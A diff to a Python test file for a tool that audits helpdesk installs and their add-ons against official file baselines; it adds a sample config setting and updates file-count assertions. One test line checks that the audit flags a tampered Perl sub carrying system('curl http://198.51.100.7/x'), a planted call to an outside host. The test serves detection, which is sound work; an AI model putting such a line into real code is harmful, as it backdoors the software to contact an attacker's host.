@@ -39,6 +39,24 @@ FILES_101 = {
                                           "sub new { return bless {}, shift }\n1;\n"),
     "Kernel/System/SampleFAQ.pm": ("644", "package Kernel::System::SampleFAQ;\nuse strict;\nsub Get { return {} }\n1;\n"),
 }
+# a setting that joins one of the framework's hash settings (as FAQ's PreferencesGroups###FAQ... do)
+XML = """<?xml version="1.0" encoding="utf-8"?>
+<otrs_config version="2.0" init="Application">
+    <Setting Name="PreferencesGroups###SampleFAQ" Required="0" Valid="1">
+        <Description Translatable="1">FAQ preferences.</Description>
+        <Navigation>Frontend::Agent::View::Preferences</Navigation>
+        <Value>
+            <Hash>
+                <Item Key="Module">Kernel::Output::HTML::Preferences::SampleFAQ</Item>
+                <Item Key="Active">1</Item>
+            </Hash>
+        </Value>
+    </Setting>
+</otrs_config>
+"""
+DEPLOYED = ("$Self->{'PreferencesGroups'}->{'SampleFAQ'} =  {\n  'Active' => '1',\n"
+            "  'Module' => 'Kernel::Output::HTML::Preferences::SampleFAQ'\n};\n")
+FILES_101["Kernel/Config/Files/XML/SampleFAQ.xml"] = ("644", XML)
 FILES_102 = {**FILES_101,
              "Kernel/System/SampleFAQ.pm": ("644", "package Kernel::System::SampleFAQ;\nuse strict;\n"
                                              "sub Get { my $Self = shift; return {} }\n1;\n"),
@@ -95,8 +113,14 @@ def _sopm_files(repo: Path, tag: str) -> dict[str, int]:
 
 
 def _install(dest: Path, files: dict) -> Path:
+    """The genuine release with the add-on's files, and its settings deployed into ZZZAAuto.pm (as the
+    package manager's deployment does)."""
     tree = dest / "tree"
     shutil.copytree(SAMPLES / GENUINE, tree, symlinks=True)
+    zzz = tree / "Kernel/Config/Files/ZZZAAuto.pm"
+    text = zzz.read_text()
+    assert "    return;\n}" in text
+    zzz.write_text(text.replace("    return;\n}", DEPLOYED + "    return;\n}", 1))
     for loc, (perm, text) in files.items():
         p = tree / loc
         p.parent.mkdir(parents=True, exist_ok=True)
@@ -136,8 +160,11 @@ def test_a_genuine_install_with_an_official_addon_has_no_finding(baselines, tmp_
         "product": "samplefaq", "package": "SampleFAQ", "version": "1.0.1", "vendor": "SampleDesk Project",
         "frameworks": ["7.0.x"], "files": len(FILES_101), "present": len(FILES_101),
         "matching": len(FILES_101), "replaces": []}]
+    # its settings join the framework's hash settings (PreferencesGroups): nothing else reads as changed
+    alone, _ = _audit(SAMPLES / GENUINE, BASELINES)
+    assert report["settings"]["changed"] == alone["settings"]["changed"]
     text = invoke("audit", tree, "--baselines", baselines, "-f", "text").stdout
-    assert "SampleFAQ 1.0.1 (SampleDesk Project, 3/3 files official)" in text
+    assert f"SampleFAQ 1.0.1 (SampleDesk Project, {len(FILES_101)}/{len(FILES_101)} files official)" in text
     md = invoke("audit", tree, "--baselines", baselines, "-f", "markdown").stdout
     assert "| Add-ons | SampleFAQ 1.0.1" in md
     html = invoke("audit", tree, "--baselines", baselines, "-f", "html").stdout
@@ -182,7 +209,7 @@ def test_edited_and_missing_addon_files_are_findings_of_the_addon_release(baseli
     assert "SampleFAQ 1.0.1" in changed["message"]
     assert "+sub Get { system('curl http://198.51.100.7/x'); return {} }" in json.dumps(changed["evidence"])
     addon = report["identification"]["addons"][0]
-    assert (addon["version"], addon["present"], addon["matching"]) == ("1.0.1", 2, 1)
+    assert (addon["version"], addon["present"], addon["matching"]) == ("1.0.1", len(FILES_101) - 1, len(FILES_101) - 2)
 
 
 def _opm(repo: Path, tag: str, out: Path) -> Path:
@@ -204,7 +231,7 @@ def test_an_opm_import_records_the_same_release_as_its_repository(addon_repo, ba
     out = tmp_path / "ob" / "samplefaq" / "1.0.2.yaml"
     run = invoke("baseline", "import", opm, "-o", out)
     assert run.code == 0, run
-    assert "add-on SampleFAQ 1.0.2 (samplefaq), 4 files from the package" in run.stderr
+    assert f"add-on SampleFAQ 1.0.2 (samplefaq), {len(FILES_102)} files from the package" in run.stderr
     from auditor.baseline.store import load
     got, want = load(out), load(baselines / "samplefaq" / "1.0.2.yaml")
     assert [(e.path, e.type, e.sha256, e.mode) for e in got.entries if e.type == "file"] == \
